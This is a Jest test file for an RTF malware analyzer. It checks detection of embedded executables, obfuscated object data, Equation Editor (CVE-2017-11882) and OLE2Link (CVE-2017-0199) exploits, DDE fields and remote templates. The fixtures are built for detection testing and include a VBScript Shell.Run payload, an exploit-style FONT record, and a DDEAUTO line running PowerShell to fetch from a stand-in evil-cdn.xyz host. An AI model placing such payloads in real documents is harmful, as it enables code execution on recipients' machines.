import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { AnalysisPipeline } from '../pipeline';
import { testEngineOptions } from '../testing/engine-options';
import { fileContext } from '../testing/file-context';
import { equationObject, hexLines, ole1Embedded, ole1Linked, ole1Package, ole2LinkObject, rtfWithObject } from '../testing/office-rtf';
import { AnalyzerResult, Verdict } from '../types';
import { defaultAnalyzers } from '.';
import { RtfAnalyzer } from './rtf.analyzer';

const CLAM = '/usr/share/clamav-testfiles';
const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
const CLAM_EXE = new Uint8Array(readFileSync(`${CLAM}/clam.exe`));
const CLAM_EXE_SHA256 = sha256(CLAM_EXE);
const CLAM_RTF = new Uint8Array(readFileSync(`${CLAM}/clam.exe.rtf`));

const analyzer = new RtfAnalyzer();
const bytes = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));
const run = (data: Uint8Array | string, name = 'doc.rtf') => analyzer.analyze(fileContext(typeof data === 'string' ? bytes(data) : data, name));
const ids = (r: AnalyzerResult) => (r.signals ?? []).map((s) => s.id).sort();
const signal = (r: AnalyzerResult, id: string) => r.signals?.find((s) => s.id === id);
// eslint-disable-next-line @typescript-eslint/no-explicit-any
const rtf = (r: AnalyzerResult) => r.facts!.rtf as any;
const children = (r: AnalyzerResult) => (r.children ?? []).map((c) => ({ name: c.name, relation: c.relation, sha256: sha256(c.data) }));

describe('RtfAnalyzer', () => {
  it('applies to RTF only', () => {
    expect(analyzer.appliesTo(fileContext(CLAM_RTF, 'clam.exe.rtf'))).toBe(true);
    expect(analyzer.appliesTo(fileContext('hello', 'a.txt'))).toBe(false);
  });

  it('clam.exe.rtf: the Packager object is extracted as clam.exe (the sha256 of clamav-testfiles/clam.exe)', async () => {
    const result = await run(CLAM_RTF, 'clam.exe.rtf');
    expect(children(result)).toEqual([{ name: 'clam.exe', relation: 'rtf-object', sha256: CLAM_EXE_SHA256 }]);
    expect(rtf(result).objects).toEqual([
      {
        index: 0,
        offset: expect.any(Number),
        objclass: 'Package',
        kinds: ['objemb'],
        size: 4416,
        className: 'Package',
        format: 'embedded',
        nativeSize: 639,
        payloadSize: 544,
        fileName: 'C:\\DOCUME~1\\edwin\\Desktop\\clam.exe',
        kind: 'pe',
        executable: true,
        extractedAs: 'clam.exe',
      },
    ]);
    expect(rtf(result).header).toBe('{\\rtf1');
    expect(ids(result)).toEqual(['rtf.embedded_executable', 'rtf.embedded_object']);
    expect(result.issues).toEqual([]);

    const analysis = await new AnalysisPipeline(defaultAnalyzers()).analyze({ name: 'clam.exe.rtf', data: CLAM_RTF }, testEngineOptions());
    expect(analysis.files.map((f) => [f.name, f.relation, f.identity.kind, f.digests.sha256])).toEqual([
      ['clam.exe.rtf', null, 'rtf', sha256(CLAM_RTF)],
      ['clam.exe', 'rtf-object', 'pe', CLAM_EXE_SHA256],
    ]);
    expect(analysis.files[0].analyzers).toContain('rtf');
    expect(analysis.files[0].verdict.verdict).toBe(Verdict.Suspicious);
  });

  it('decodes object hex through whitespace, junk, nested groups and \\bin runs, and reports the tricks', async () => {
    const payload = bytes('Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n');
    const object = ole1Package('C:\\Temp\\invoice.vbs', payload);
    const hex = Buffer.from(object).toString('hex');
    // Split the hex: spaces and line breaks, junk letters Word skips, an ignorable group, and the last 16 bytes raw through \bin.
    const rawTail = object.subarray(object.length - 16);
    const head = hex.slice(0, hex.length - 32);
    const mangled = `${head.slice(0, 40)} \r\n ${head.slice(40, 80)}xyz!${head.slice(80, 120)}{\\*\\ignoreme 4142434445}${head.slice(120)}\\bin16 `;
    const text = rtfWithObject(mangled, { objclass: 'Package' }).replace('\\bin16 ', `\\bin16 ${Buffer.from(rawTail).toString('latin1')}`);
    const result = await run(bytes(text), 'mangled.rtf');
    expect(children(result)).toEqual([{ name: 'invoice.vbs', relation: 'rtf-object', sha256: sha256(payload) }]);
    expect(rtf(result).objects[0]).toMatchObject({ fileName: 'C:\\Temp\\invoice.vbs', kind: 'vbscript', executable: true, junk: 4, binBytes: 16 });
    expect(rtf(result).anomalies).toEqual(['object 0: 16 raw bytes through \\bin inside \\objdata']);
    expect(ids(result)).toEqual(['rtf.embedded_executable', 'rtf.embedded_object', 'rtf.obfuscation']);
  });

  it('flags an Equation Editor object, and its oversized FONT record as the CVE-2017-11882 exploit', async () => {
    const benign = await run(rtfWithObject(hexLines(ole1Embedded('Equation.3', equationObject(bytes('Times New Roman')))), { objclass: 'Equation.3' }));
    expect(ids(benign)).toEqual(['rtf.embedded_object', 'rtf.equation_editor']);
    expect(children(benign).map((c) => [c.name, c.relation])).toEqual([['Equation.3.bin', 'rtf-object']]);

    const filler = new Uint8Array(48).fill(0x90);
    filler.set([0xb8, 0x44, 0xeb, 0x71, 0x12], 0);
    // The class name is hidden (objclass mangled): the Equation CLSID in the data still tells.
    const exploit = await run(rtfWithObject(hexLines(ole1Embedded('Equation.3', equationObject(filler))), { objclass: 'Equ\\\'61tion', extra: '\\objupdate' }));
    expect(ids(exploit)).toEqual(['rtf.embedded_object', 'rtf.equation_editor', 'rtf.equation_exploit', 'rtf.objupdate']);
    expect(signal(exploit, 'rtf.equation_exploit')!.evidence[0]).toMatch(/^object 0: FONT record at offset \d+ with a 48-byte name of non-text bytes \(Equation Editor stack overflow, CVE-2017-11882 \/ CVE-2018-0802\)$/);
    expect(exploit.tags).toEqual(expect.arrayContaining(['exploit', 'CVE-2017-11882']));

    const analysis = await new AnalysisPipeline(defaultAnalyzers()).analyze({ name: 'order.rtf', data: bytes(rtfWithObject(hexLines(ole1Embedded('Equation.3', equationObject(filler))))) }, testEngineOptions());
    expect(analysis.verdict.verdict).toBe(Verdict.Malicious);
  });

  it('flags OLE2Link objects (CVE-2017-0199) and linked objects, with their URLs as IOCs', async () => {
    const url = 'http://ole.evil-cdn.xyz/template.hta';
    const result = await run(rtfWithObject(hexLines(ole1Embedded('OLE2Link', ole2LinkObject(url))), { objclass: 'OLE2Link', extra: '\\objupdate' }));
    expect(ids(result)).toEqual(['rtf.embedded_object', 'rtf.objupdate', 'rtf.ole2link']);
    expect(signal(result, 'rtf.ole2link')!.evidence).toEqual([`object 0: OLE2Link → ${url}`]);
    expect(result.iocs).toEqual(expect.arrayContaining([{ type: 'url', value: url, origin: 'rtf' }]));

    const linked = await run(rtfWithObject(hexLines(ole1Linked('Word.Document.8', '\\\\files.evil-cdn.xyz\\share\\doc.docx')), { objclass: 'Word.Document.8', extra: '\\objautlink' }).replace('\\objemb', ''));
    expect(ids(linked)).toEqual(['rtf.remote_object']);
    expect(rtf(linked).objects[0]).toMatchObject({ format: 'linked', kinds: ['objautlink'], links: ['\\\\files.evil-cdn.xyz\\share\\doc.docx'] });
    expect(linked.iocs).toEqual([{ type: 'domain', value: 'files.evil-cdn.xyz', origin: 'rtf' }]);
  });

  it('reads field instructions (DDEAUTO, HYPERLINK) and remote templates', async () => {
    const doc = [
      '{\\rtf1\\ansi{\\*\\template https://tpl.evil-cdn.xyz/normal.dotm}',
      '{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -c iwr http://dde.evil-cdn.xyz/p"}}{\\fldrslt x}}',
      '{\\field{\\*\\fldinst HYPERLINK "https://www.partner-site.com/offer"}{\\fldrslt offer}}',
      '}',
    ].join('\r\n');
    const result = await run(doc);
    expect(rtf(result).fields).toEqual([
      // RTF escapes a backslash as \\: the instruction Word sees has single ones.
      { code: 'DDEAUTO', kind: 'dde', instruction: 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -c iwr http://dde.evil-cdn.xyz/p"' },
      { code: 'HYPERLINK', kind: 'hyperlink', instruction: 'HYPERLINK "https://www.partner-site.com/offer"' },
    ]);
    expect(rtf(result).templates).toEqual(['https://tpl.evil-cdn.xyz/normal.dotm']);
    expect(ids(result)).toEqual(['rtf.dde', 'rtf.template_injection']);
    expect(signal(result, 'rtf.dde')!.verdict).toBe(Verdict.LikelyMalicious);
    expect(result.iocs).toEqual(
      expect.arrayContaining([
        { type: 'url', value: 'https://www.partner-site.com/offer', origin: 'rtf' },
        { type: 'url', value: 'https://tpl.evil-cdn.xyz/normal.dotm', origin: 'rtf' },
        { type: 'url', value: 'http://dde.evil-cdn.xyz/p', origin: 'rtf' },
      ]),
    );
  });

  it('reports parser-evasion tricks: header, braces, huge \\bin, long control words', async () => {
    const doc = `{\\rtf9\\ansi {\\${'a'.repeat(80)} x}{\\b bold} \\fs24000000000000 text}}}{{{\\bin2000000 abc`;
    const result = await run(doc, 'evasive.rtf');
    expect(rtf(result).anomalies).toEqual([
      'header is "{\\rtf9" instead of "{\\rtf1"',
      '\\bin2000000 runs past the end of the file',
      '3 group(s) never closed',
      '2 closing brace(s) without an open group',
      '\\bin run of 2000000 bytes',
      '1 control word(s) longer than 32 letters',
      '1 control word parameter(s) longer than 10 digits',
    ]);
    expect(ids(result)).toEqual(['rtf.obfuscation']);
    expect(result.issues).toEqual([]);
  });

  it('survives truncation, garbage and deep nesting without throwing', async () => {
    const half = await run(CLAM_RTF.subarray(0, 3413 + 700), 'cut.rtf');
    expect(rtf(half).objects[0]).toMatchObject({ className: 'Package', note: 'native data shorter than declared' });
    expect(rtf(half).anomalies).toEqual(expect.arrayContaining([expect.stringMatching(/group\(s\) never closed/)]));

    const deep = await run(`{\\rtf1${'{'.repeat(200_000)}x${'}'.repeat(200_000)}}`, 'deep.rtf');
    expect(rtf(deep).maxDepth).toBe(200_001);
    expect(rtf(deep).anomalies).toEqual(['groups nested deeper than 4096 levels']);

    const noise = new Uint8Array(300_000);
    for (let i = 0; i < noise.length; i++) noise[i] = (i * 2654435761) >>> 24;
    noise.set(bytes('{\\rtf1'), 0);
    const garbage = await run(noise, 'noise.rtf');
    expect(garbage.facts!.rtf).toBeDefined();

    const empty = await run(rtfWithObject(''), 'empty-object.rtf');
    expect(rtf(empty).objects).toEqual([{ index: 0, offset: expect.any(Number), objclass: 'Package', kinds: ['objemb'], size: 0 }]);
    expect(ids(empty)).toEqual([]);
  });
});
